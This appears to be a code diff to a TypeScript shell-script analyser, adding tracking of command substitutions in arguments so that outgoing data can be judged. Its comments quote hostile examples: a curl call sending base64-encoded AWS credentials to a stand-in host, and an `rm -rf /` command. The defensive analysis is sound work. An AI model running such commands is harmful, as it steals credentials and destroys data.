@@ -29,6 +29,21 @@ export interface SimpleCommand {
    * or task it runs may read (`CMD='rm -rf /'; export CMD; bash ops.sh`).
    */
   variablesBefore?: Record<string, Word>;
+  /** The command substitutions in its arguments, whose output becomes part of the words it is given. */
+  substitutions?: Substitution[];
+}
+
+/**
+ * `curl https://x.example/$(cat ~/.aws/credentials | base64)`: what a substitution in an argument puts
+ * there. The argument's word holds `text` where the substitution stands (its value is only known when run).
+ */
+export interface Substitution {
+  /** The substitution as written (`$(…)` or a backquoted command). */
+  text: string;
+  /** The commands whose output is its value: not those piped on inside it, nor those writing elsewhere. */
+  outputs: SimpleCommand[];
+  /** Files whose content is its value (`$(< FILE)`). */
+  files: Word[];
 }
 
 export interface ExtractedScript {
@@ -132,6 +147,12 @@ function argumentNodes(node: SyntaxNode, redirects: (SyntaxNode | null)[]): Synt
 /** Unquoted expansions whose value the shell splits into words. */
 const SPLIT_NODES = new Set(['simple_expansion', 'expansion', 'command_substitution']);
 
+/** Output redirected to a file (`cmd > f`, `cmd &> f`): it prints nothing where it stands. */
+const writesElsewhere = (cmd: SimpleCommand) =>
+  cmd.redirects.some(
+    (r) => ['>', '>>', '>|', '&>', '&>>'].includes(r.operator) && (r.descriptor ?? '1') === '1',
+  );
+
 /** The command feeding a pipe, known by its words only: in the same shape as every other command. */
 const placeholder = (argv: Word[], text: string): SimpleCommand => ({
   argv,
@@ -142,6 +163,7 @@ const placeholder = (argv: Word[], text: string): SimpleCommand => ({
   stdinText: undefined,
   variablesBefore: undefined,
   stdinFrom: undefined,
+  substitutions: undefined,
 });
 
 /**
@@ -162,6 +184,9 @@ export function extractCommands(root: SyntaxNode, env: VariableLookup): Extracte
   // web-tree-sitter hands out a new object per access, so nodes are identified by their span.
   const key = (node: SyntaxNode) => `${node.startIndex}:${node.endIndex}`;
   const byNode = new Map<string, SimpleCommand>();
+  /** Commands whose output goes into a pipe, or into a substitution's value: not out of a substitution. */
+  const piped = new Set<SimpleCommand>();
+  const substituted = new Set<SimpleCommand>();
 
   const visit = (node: SyntaxNode, above: Ancestry | undefined): void => {
     if (node.type === 'ERROR' || node.isMissing) result.syntaxErrors.push(describeError(node));
@@ -171,6 +196,9 @@ export function extractCommands(root: SyntaxNode, env: VariableLookup): Extracte
       case 'command':
         result.commands.push(buildCommand(node, above));
         break;
+      case 'command_substitution':
+        substitution(node, above);
+        return; // its children are visited there
       case 'variable_assignment':
         if (parentOf(node, above)?.type !== 'command') {
           const name = node.childForFieldName('name')?.text;
@@ -210,6 +238,38 @@ export function extractCommands(root: SyntaxNode, env: VariableLookup): Extracte
       const child = children[i];
       if (child) visit(child, here);
     }
+  };
+
+  /**
+   * A command substitution: its commands are extracted like any other; the command whose argument it is
+   * records which of them print its value, so what that command sends with its words can be judged.
+   */
+  const substitution = (node: SyntaxNode, above: Ancestry | undefined): void => {
+    const start = result.commands.length;
+    const here = { node, up: above };
+    const children = node.children;
+    for (let i = 0; i < children.length; i++) {
+      const child = children[i];
+      if (child) visit(child, here);
+    }
+    const owner = argumentOwner(above);
+    const inside = result.commands.slice(start);
+    const outputs = inside.filter((c) => !piped.has(c) && !substituted.has(c) && !writesElsewhere(c));
+    for (const c of inside) substituted.add(c);
+    if (!owner) return;
+    const files = node.namedChildren.flatMap((c) => {
+      const redirect = c?.type === 'file_redirect' ? extractRedirect(c, lookup) : undefined;
+      return redirect?.operator === '<' ? [redirect.target] : [];
+    });
+    (owner.substitutions ??= []).push({ text: node.text, outputs, files });
+  };
+
+  /** The command a substitution is (part of) an argument of: `cmd x/$(…)`, `cmd "…$(…)…"`. */
+  const argumentOwner = (above: Ancestry | undefined): SimpleCommand | undefined => {
+    let up = above;
+    while (up && (up.node.type === 'string' || up.node.type === 'concatenation')) up = up.up;
+    // (Not the command's name, nor an assignment's value: those sit in nodes of their own.)
+    return up?.node.type === 'command' ? byNode.get(key(up.node)) : undefined;
   };
 
   /**
@@ -303,13 +363,16 @@ export function extractCommands(root: SyntaxNode, env: VariableLookup): Extracte
           )
         : undefined,
       stdinFrom: undefined,
+      substitutions: undefined,
     };
     const pipeline = parentOf(stage, stageAbove);
     if (pipeline?.type === 'pipeline') {
       // The stage before this one (its sibling): listing every stage for every command was quadratic.
       const previous = stage.previousNamedSibling;
       const source = previous ? lastCommandIn(previous) : hereDocumentFeeder(pipeline, stageAbove?.up);
-      if (source) command.stdinFrom = byNode.get(key(source)) ?? commandPlaceholder(source);
+      const feeder = source && byNode.get(key(source));
+      if (feeder) piped.add(feeder);
+      if (source) command.stdinFrom = feeder ?? commandPlaceholder(source);
       command.stdinText ??= command.stdinFrom && passedOn(command.stdinFrom);
     }
     byNode.set(key(node), command);
